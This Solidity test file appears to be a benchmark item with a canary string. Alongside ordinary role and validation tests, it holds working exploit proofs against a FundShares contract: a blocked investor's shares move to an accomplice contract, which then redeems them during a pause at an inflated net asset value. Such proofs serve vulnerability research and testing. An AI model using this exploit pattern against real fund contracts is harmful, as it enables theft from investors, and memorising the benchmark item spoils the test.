// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./FundShares.sol";

// assay-canary-6572b80c-b33d-4cea-870a-fc28eb4665b5

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 1_000_000e6);
    }

    function decimals() public pure override returns (uint8) {
        return 6;
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant REGISTRAR = address(0x4E6);
    address private constant ADMIN = address(0xAD);
    address private constant GUARD = address(0x60A);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);

    Coin private token;
    InvestorRegister private register;
    FundShares private fund;
    Attacker private mallory;
    Attacker private second;
    uint256 private hers;

    function setUp() public {
        token = new Coin();
        register = new InvestorRegister(REGISTRAR);
        fund = new FundShares(token, register, ADMIN, GUARD);
        second = new Attacker(fund, token, address(0));
        mallory = new Attacker(fund, token, address(second));
        vm.startPrank(REGISTRAR);
        register.set(ANA, InvestorRegister.Standing.Investor);
        register.set(BEN, InvestorRegister.Standing.Investor);
        register.set(address(mallory), InvestorRegister.Standing.Investor);
        register.set(address(second), InvestorRegister.Standing.Investor);
        vm.stopPrank();
        vm.prank(ADMIN);
        fund.setNetAssetValue(100e6);
        token.transfer(ANA, 400_000e6);
        token.transfer(address(mallory), 50_000e6);
        token.transfer(address(second), 100_000e6);
        vm.startPrank(ANA);
        token.approve(address(fund), type(uint256).max);
        fund.subscribe(300_000e6, 0);
        vm.stopPrank();
        mallory.join(50_000e6);
        second.join(100_000e6);
        hers = fund.balanceOf(address(mallory));
        vm.prank(REGISTRAR);
        register.set(address(mallory), InvestorRegister.Standing.Blocked);
        vm.prank(ADMIN);
        fund.setNetAssetValue(200e6);
        vm.prank(GUARD);
        fund.pause();
    }

    function resume() private {
        vm.prank(ADMIN);
        fund.setNetAssetValue(101e6);
        vm.prank(GUARD);
        fund.unpause();
    }

    function test_Regular() public {
        require(fund.balanceOf(ANA) == 3_000e18 && hers == 500e18, "subscribed");
        vm.startPrank(ANA);
        fund.transfer(BEN, 100e18);
        fund.approve(BEN, 50e18);
        vm.stopPrank();
        vm.prank(BEN);
        fund.transferFrom(ANA, BEN, 50e18);
        resume();
        vm.prank(BEN);
        require(fund.redeem(150e18, 15_000e6) == 15_150e6 && token.balanceOf(BEN) == 15_150e6, "redeemed");
        vm.prank(ANA);
        require(fund.subscribe(101e6, 1e18) == 1e18, "one more");
        vm.prank(ADMIN);
        fund.invest(1_000e6);
        require(token.balanceOf(ADMIN) == 1_000e6, "invested");
        vm.prank(GUARD);
        fund.pause();
        vm.prank(REGISTRAR);
        register.set(address(mallory), InvestorRegister.Standing.Investor);
        mallory.send(1e18);
        require(fund.balanceOf(address(second)) == 1_001e18, "no longer blocked");
    }

    function test_RefusesRoles() public {
        vm.expectRevert("FundRoles: not the administrator");
        fund.setNetAssetValue(1);
        vm.expectRevert("FundRoles: not the administrator");
        fund.invest(1);
        vm.expectRevert("FundRoles: not the guardian");
        fund.unpause();
        resume();
        vm.expectRevert("FundRoles: not the guardian");
        fund.pause();
        vm.expectRevert("InvestorRegister: not the registrar");
        register.set(BEN, InvestorRegister.Standing.Investor);
        vm.prank(REGISTRAR);
        vm.expectRevert("InvestorRegister: zero");
        register.set(address(0), InvestorRegister.Standing.Investor);
        vm.prank(ADMIN);
        vm.expectRevert("FundShares: zero");
        fund.setNetAssetValue(0);
    }

    function test_RefusesInvestors() public {
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(Pausable.EnforcedPause.selector));
        fund.subscribe(1_000e6, 0);
        resume();
        vm.startPrank(ANA);
        vm.expectRevert("FundShares: too few");
        fund.subscribe(101e6, 1e18 + 1);
        vm.expectRevert("FundShares: too few");
        fund.subscribe(0, 0);
        vm.expectRevert("FundShares: too few");
        fund.redeem(1e18, 101e6 + 1);
        vm.expectRevert("FundShares: too few");
        fund.redeem(0, 0);
        vm.expectRevert("FundShares: not an investor");
        fund.transfer(address(this), 1);
        vm.stopPrank();
        vm.expectRevert("FundShares: blocked");
        mallory.leave();
    }

    function test_RefusesSetups() public {
        vm.expectRevert("FundShares: zero");
        new FundShares(IERC20(address(0)), register, ADMIN, GUARD);
        vm.expectRevert("FundShares: zero");
        new FundShares(token, InvestorRegister(address(0)), ADMIN, GUARD);
        vm.expectRevert("FundRoles: zero");
        new FundShares(token, register, address(0), GUARD);
        vm.expectRevert("FundRoles: zero");
        new FundShares(token, register, ADMIN, address(0));
        FundShares other = new FundShares(token, register, ADMIN, GUARD);
        vm.expectRevert("FundShares: no value");
        other.subscribe(1, 0);
    }

    function blockedHoldsAll() public view returns (bool) {
        return !register.blocked(address(mallory)) || fund.balanceOf(address(mallory)) >= hers;
    }

    function exploit() public {
        mallory.send(hers);
    }

    function test_Exploit() public {
        require(blockedHoldsAll(), "at first");
        exploit();
        require(!blockedHoldsAll(), "nothing moved");
    }

    function exploit2() public {
        second.leave();
    }

    function test_Exploit2() public {
        exploit2();
        require(token.balanceOf(address(second)) >= 190_000e6, "nothing gained");
    }

    function target() public view returns (address) {
        return address(fund);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function attacker2() public view returns (address) {
        return address(second);
    }

    function cash() public view returns (address) {
        return address(token);
    }
}

contract Attacker {
    FundShares private fund;
    Coin private token;
    address private ally;
    address private host = msg.sender;

    constructor(FundShares f, Coin t, address a) {
        fund = f;
        token = t;
        ally = a;
    }

    function join(uint256 amount) external {
        token.approve(address(fund), amount);
        fund.subscribe(amount, 0);
    }

    function send(uint256 amount) external {
        require(msg.sender == host, "host");
        fund.transfer(ally, amount);
    }

    function leave() external {
        fund.redeem(fund.balanceOf(address(this)), 0);
    }
}
